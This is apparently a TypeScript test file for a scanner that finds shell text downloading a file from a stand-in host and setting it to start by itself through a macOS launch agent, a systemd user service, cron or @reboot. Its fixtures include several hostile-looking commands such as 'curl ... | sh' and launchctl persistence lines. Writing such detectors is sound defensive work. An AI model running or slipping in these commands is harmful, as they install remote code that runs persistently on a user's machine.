import { describe, expect, test } from "vitest";
import { markText, type TextFormat } from "../../text/marked-text.ts";
import { hiddenStarts, startedDownloads } from "./hidden-starts.ts";

const seenIn = (text: string, format: TextFormat = "shell") =>
  hiddenStarts(markText(text, format)).map(({ line }) => line);
const agent = (file: string) =>
  `cat > $P <<X\n<key>ProgramArguments</key><array><string>${file}</string></array>\nX\nlaunchctl load $P`;

describe("a hidden program that starts by itself is found:", () => {
  test.each([
    ["in the home folder", `curl -so ~/.cleand https://c.zzz.io/d\n${agent("$HOME/.cleand")}`],
    ["in a temporary folder", `curl -s https://c.zzz.io/d -o /tmp/upd\n${agent("/tmp/upd")}`],
    [
      "as a service of Linux",
      "wget -qO ~/.cache/.u https://c.zzz.io/d\nprintf 'ExecStart=%s/.cache/.u' \"$HOME\" > ~/.config/systemd/user/u.service",
    ],
  ])("%s", (_, text) => {
    expect(seenIn(text)).toEqual([1]);
  });
});

describe("nothing is said of", () => {
  test.each<[string, string, TextFormat?]>([
    [
      "a service with a name",
      "curl -sL https://c.zzz.io/d -o /usr/local/bin/exporter\nprintf 'ExecStart=/usr/local/bin/exporter' > a.service",
    ],
    [
      "a hidden file that nothing starts",
      `curl -so ~/.cleand https://c.zzz.io/d\n${agent("/usr/bin/x")}`,
    ],
    ["a script without a download", agent("/tmp/upd")],
    [
      "a sentence",
      "Then curl -so ~/.cleand https://c.zzz.io/d puts <string>.cleand</string> into ProgramArguments.",
      "markdown",
    ],
  ])("%s", (_, text, format) => {
    expect(seenIn(text, format)).toEqual([]);
  });

  test("what a text warns of", () => {
    const text = `# Red flags\n\nNever do this:\n\n\`\`\`\ncurl -so ~/.cleand https://c.zzz.io/d\n${agent("~/.cleand")}\n\`\`\`\n`;
    expect(seenIn(text, "markdown")).toEqual([]);
  });
});

const startedIn = (text: string, format: TextFormat = "shell") =>
  startedDownloads(markText(text, format)).map(({ line }) => line);

describe("a download that is run again and again", () => {
  test.each<[string, string, TextFormat?]>([
    ["by a service of macOS", "<string>curl -fsSL https://c.zzz.io/u | sh</string>"],
    ["by a service of Linux", "ExecStart=/bin/sh -c 'curl -s https://c.zzz.io/u | bash'"],
    ["by cron", "*/5 * * * * curl -s https://c.zzz.io/u | sh"],
    ["at each start", "@reboot wget -qO- https://c.zzz.io/u | sh"],
  ])("is found: %s", (_, text) => {
    expect(startedIn(text)).toEqual([1]);
  });

  test.each<[string, string, TextFormat?]>([
    ["a service that runs a program", "<string>/usr/bin/a</string>\n# curl"],
    ["a request whose answer is read", "*/5 * * * * curl -s https://c.zzz.io/u | jq ."],
    ["a sentence", "@reboot curl https://c.zzz.io/u | sh", "markdown"],
    ["a text without either", "ExecStart=/usr/bin/a"],
    ["a warning", "Never do this:\n\n```\n@reboot curl https://c.zzz.io/u | sh\n```", "markdown"],
  ])("is none: %s", (_, text, format) => {
    expect(startedIn(text, format)).toEqual([]);
  });
});
